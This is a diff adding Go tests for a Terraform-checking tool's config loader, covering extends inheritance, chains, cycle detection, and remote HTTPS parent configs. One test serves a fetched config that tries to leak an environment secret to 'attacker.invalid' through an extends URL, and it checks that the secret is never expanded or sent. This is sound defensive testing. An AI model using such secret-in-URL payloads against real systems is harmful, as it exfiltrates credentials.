@@ -0,0 +1,258 @@
+package config
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestLoad_Extends(t *testing.T) {
+	tmpDir := t.TempDir()
+	writeConfig(t, filepath.Join(tmpDir, "shared", "base.hcl"), `
+version = 1
+
+paths {
+  include = ["**/*.tf"]
+  exclude = [".terraform/**", "examples/**"]
+}
+
+policy {
+  fail_on        = "WARNING"
+  required_rules = ["input-removed"]
+}
+
+rules "input-default-changed" {
+  enabled  = true
+  severity = "ERROR"
+}
+
+rules "output-removed" {
+  enabled = false
+}
+`)
+	configPath := filepath.Join(tmpDir, "repo", ".tfbreak.hcl")
+	writeConfig(t, configPath, `
+version = 1
+extends = "../shared/base.hcl"
+
+paths {
+  exclude = ["tests/**"]
+}
+
+policy {
+  fail_on = "ERROR"
+}
+
+rules "input-default-changed" {
+  enabled = false
+}
+`)
+
+	cfg, err := Load(configPath, "")
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	if cfg.Extends != "../shared/base.hcl" {
+		t.Errorf("Extends = %q", cfg.Extends)
+	}
+	if len(cfg.Paths.Include) != 1 || cfg.Paths.Include[0] != "**/*.tf" {
+		t.Errorf("expected include inherited from the parent, got %v", cfg.Paths.Include)
+	}
+	if len(cfg.Paths.Exclude) != 1 || cfg.Paths.Exclude[0] != "tests/**" {
+		t.Errorf("expected exclude replaced by the local config, got %v", cfg.Paths.Exclude)
+	}
+	if cfg.Policy.FailOn != "ERROR" {
+		t.Errorf("expected local fail_on to win, got %s", cfg.Policy.FailOn)
+	}
+	if got := cfg.GetRequiredRules(); len(got) != 1 || got[0] != "input-removed" {
+		t.Errorf("expected required_rules inherited from the parent, got %v", got)
+	}
+
+	rc := cfg.GetRuleConfig("input-default-changed")
+	if rc == nil || rc.Enabled == nil || *rc.Enabled {
+		t.Errorf("expected local enabled = false to win, got %+v", rc)
+	}
+	if rc != nil && (rc.Severity == nil || *rc.Severity != "ERROR") {
+		t.Errorf("expected severity inherited from the parent, got %v", rc.Severity)
+	}
+	if cfg.IsRuleEnabled("output-removed") {
+		t.Error("expected parent-only rule block to be kept")
+	}
+}
+
+func TestLoad_ExtendsChain(t *testing.T) {
+	tmpDir := t.TempDir()
+	writeConfig(t, filepath.Join(tmpDir, "org.hcl"), `
+version = 1
+
+output {
+  format = "json"
+  color  = "never"
+}
+`)
+	writeConfig(t, filepath.Join(tmpDir, "team.hcl"), `
+version = 1
+extends = "org.hcl"
+
+output {
+  color = "always"
+}
+`)
+	configPath := filepath.Join(tmpDir, "repo.hcl")
+	writeConfig(t, configPath, `
+version = 1
+extends = "team.hcl"
+`)
+
+	cfg, err := Load(configPath, "")
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.Output.Format != "json" || cfg.Output.Color != "always" {
+		t.Errorf("expected format json and color always, got %s and %s", cfg.Output.Format, cfg.Output.Color)
+	}
+}
+
+func TestLoad_ExtendsCycle(t *testing.T) {
+	tmpDir := t.TempDir()
+	writeConfig(t, filepath.Join(tmpDir, "a.hcl"), `
+version = 1
+extends = "b.hcl"
+`)
+	writeConfig(t, filepath.Join(tmpDir, "b.hcl"), `
+version = 1
+extends = "a.hcl"
+`)
+
+	_, err := Load(filepath.Join(tmpDir, "a.hcl"), "")
+	if err == nil {
+		t.Fatal("expected error for extends cycle")
+	}
+	if !strings.Contains(err.Error(), "cycle") {
+		t.Errorf("expected cycle error, got: %v", err)
+	}
+}
+
+func TestLoad_ExtendsErrors(t *testing.T) {
+	tests := []struct {
+		name    string
+		extends string
+		wantErr string
+	}{
+		{"missing parent", `"missing.hcl"`, "missing.hcl"},
+		{"not a string", `["base.hcl"]`, "extends must be a string"},
+		{"unsupported scheme", `"http://example.com/base.hcl"`, "only local paths and https:// URLs"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			configPath := filepath.Join(t.TempDir(), ".tfbreak.hcl")
+			writeConfig(t, configPath, "version = 1\nextends = "+tt.extends+"\n")
+
+			_, err := Load(configPath, "")
+			if err == nil {
+				t.Fatal("expected error")
+			}
+			if !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("expected error containing %q, got: %v", tt.wantErr, err)
+			}
+		})
+	}
+}
+
+func TestLoad_ExtendsURL(t *testing.T) {
+	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/configs/base.hcl":
+			w.Write([]byte("version = 1\nextends = \"common.hcl\"\n\noutput {\n  format = \"sarif\"\n}\n"))
+		case "/configs/common.hcl":
+			w.Write([]byte("version = 1\n\noutput {\n  color = \"never\"\n}\n"))
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer server.Close()
+
+	origClient := extendsHTTPClient
+	extendsHTTPClient = server.Client()
+	defer func() { extendsHTTPClient = origClient }()
+
+	configPath := filepath.Join(t.TempDir(), ".tfbreak.hcl")
+	writeConfig(t, configPath, "version = 1\nextends = \""+server.URL+"/configs/base.hcl\"\n")
+
+	cfg, err := Load(configPath, "")
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.Output.Format != "sarif" || cfg.Output.Color != "never" {
+		t.Errorf("expected format sarif and color never, got %s and %s", cfg.Output.Format, cfg.Output.Color)
+	}
+
+	writeConfig(t, configPath, "version = 1\nextends = \""+server.URL+"/configs/missing.hcl\"\n")
+	if _, err := Load(configPath, ""); err == nil || !strings.Contains(err.Error(), "404") {
+		t.Errorf("expected a 404 error, got: %v", err)
+	}
+}
+
+func TestLoad_ExtendsURLDoesNotExpandEnv(t *testing.T) {
+	t.Setenv("TFBREAK_TEST_SECRET", "s3cret")
+
+	var requested []string
+	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		requested = append(requested, r.URL.String())
+		switch r.URL.Path {
+		case "/configs/leak.hcl":
+			w.Write([]byte("version = 1\nextends = \"https://attacker.invalid/${env.TFBREAK_TEST_SECRET}\"\n"))
+		case "/configs/values.hcl":
+			w.Write([]byte("version = 1\n\noutput {\n  help_url_base = \"https://docs.example.com/${env.TFBREAK_TEST_SECRET}\"\n}\n"))
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer server.Close()
+
+	origClient := extendsHTTPClient
+	extendsHTTPClient = server.Client()
+	defer func() { extendsHTTPClient = origClient }()
+
+	// The fetched config's own extends is not expanded, so the secret is
+	// never sent anywhere
+	configPath := filepath.Join(t.TempDir(), ".tfbreak.hcl")
+	writeConfig(t, configPath, "version = 1\nextends = \""+server.URL+"/configs/leak.hcl\"\n")
+	_, err := Load(configPath, "")
+	if err == nil {
+		t.Fatal("expected an error fetching the literal extends URL")
+	}
+	if strings.Contains(err.Error(), "s3cret") {
+		t.Errorf("error contains the expanded secret: %v", err)
+	}
+	for _, r := range requested {
+		if strings.Contains(r, "s3cret") {
+			t.Errorf("request %q contains the expanded secret", r)
+		}
+	}
+
+	// Other values of a fetched config keep their references as literal text
+	writeConfig(t, configPath, "version = 1\nextends = \""+server.URL+"/configs/values.hcl\"\n")
+	cfg, err := Load(configPath, "")
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if want := "https://docs.example.com/${env.TFBREAK_TEST_SECRET}"; cfg.Output.HelpURLBase != want {
+		t.Errorf("help_url_base = %q, want %q", cfg.Output.HelpURLBase, want)
+	}
+}
+
+func writeConfig(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+}